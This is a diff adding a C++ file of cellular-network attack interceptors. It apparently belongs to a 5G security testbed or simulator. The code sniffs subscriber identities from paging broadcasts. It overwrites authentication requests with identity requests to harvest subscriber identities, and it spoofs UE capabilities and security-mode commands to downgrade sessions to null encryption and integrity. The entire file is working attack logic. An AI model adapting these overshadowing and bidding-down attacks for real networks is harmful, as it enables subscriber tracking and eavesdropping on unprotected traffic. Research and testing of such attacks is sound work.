@@ -1,0 +1,85 @@
+#include "attacks/interceptors.hpp"
+
+namespace xsec::attacks {
+
+std::optional<ran::AirFrame> PagingSniffer::on_downlink(
+    const ran::AirFrame& frame) {
+  if (frame.radio_tag != 0) return frame;  // only the broadcast channel
+  auto rrc = ran::decode_rrc(frame.rrc_wire);
+  if (rrc && std::holds_alternative<ran::Paging>(rrc.value()))
+    sniffed_.push_back(std::get<ran::Paging>(rrc.value()).s_tmsi_packed);
+  return frame;
+}
+
+std::optional<ran::AirFrame> DownlinkIdentityOverwriter::on_downlink(
+    const ran::AirFrame& frame) {
+  if (!armed_ || fired_) return frame;
+  if (target_tag_ && frame.radio_tag != *target_tag_) return frame;
+  auto rrc = ran::decode_rrc(frame.rrc_wire);
+  if (!rrc) return frame;
+  auto* transfer = std::get_if<ran::DlInformationTransfer>(&rrc.value());
+  if (!transfer) return frame;
+  auto nas = ran::decode_nas(transfer->dedicated_nas);
+  if (!nas || !std::holds_alternative<ran::AuthenticationRequest>(nas.value()))
+    return frame;
+
+  // Overshadow: replace the authentication challenge with an identity
+  // request, harvesting the subscriber's identity before security starts.
+  fired_ = true;
+  victim_rnti_ = frame.rnti;
+  ran::IdentityRequest identity_request;
+  identity_request.type = ran::IdentityType::kSuci;
+  ran::AirFrame overwritten = frame;
+  overwritten.rrc_wire = ran::encode_rrc(ran::RrcMessage{
+      ran::DlInformationTransfer{
+          ran::encode_nas(ran::NasMessage{identity_request})}});
+  return overwritten;
+}
+
+std::optional<ran::AirFrame> CapabilityBiddingDown::on_uplink(
+    const ran::AirFrame& frame) {
+  if (!armed_ || fired_) return frame;
+  if (target_tag_ && frame.radio_tag != *target_tag_) return frame;
+  auto rrc = ran::decode_rrc(frame.rrc_wire);
+  if (!rrc) return frame;
+  auto* complete = std::get_if<ran::RrcSetupComplete>(&rrc.value());
+  if (!complete) return frame;
+  auto nas = ran::decode_nas(complete->dedicated_nas);
+  if (!nas) return frame;
+  auto* registration = std::get_if<ran::RegistrationRequest>(&nas.value());
+  if (!registration) return frame;
+
+  fired_ = true;
+  victim_rnti_ = frame.rnti;
+  victim_tag_ = frame.radio_tag;
+
+  // Spoof the capabilities: only the null algorithms are "supported", so
+  // the network's selection falls through to NEA0/NIA0.
+  ran::RegistrationRequest spoofed = *registration;
+  spoofed.capabilities.nea_mask = 0b0001;  // NEA0 only
+  spoofed.capabilities.nia_mask = 0b0001;  // NIA0 only
+  ran::RrcSetupComplete new_complete = *complete;
+  new_complete.dedicated_nas = ran::encode_nas(ran::NasMessage{spoofed});
+  ran::AirFrame overwritten = frame;
+  overwritten.rrc_wire = ran::encode_rrc(ran::RrcMessage{new_complete});
+  return overwritten;
+}
+
+std::optional<ran::AirFrame> CapabilityBiddingDown::on_downlink(
+    const ran::AirFrame& frame) {
+  if (!fired_ || !victim_rnti_ || frame.rnti != victim_rnti_) return frame;
+  auto rrc = ran::decode_rrc(frame.rrc_wire);
+  if (!rrc) return frame;
+  auto* smc = std::get_if<ran::RrcSecurityModeCommand>(&rrc.value());
+  if (!smc) return frame;
+
+  // Also null out the AS security negotiation for the same victim.
+  ran::RrcSecurityModeCommand downgraded = *smc;
+  downgraded.cipher = ran::CipherAlg::kNea0;
+  downgraded.integrity = ran::IntegrityAlg::kNia0;
+  ran::AirFrame overwritten = frame;
+  overwritten.rrc_wire = ran::encode_rrc(ran::RrcMessage{downgraded});
+  return overwritten;
+}
+
+}  // namespace xsec::attacks
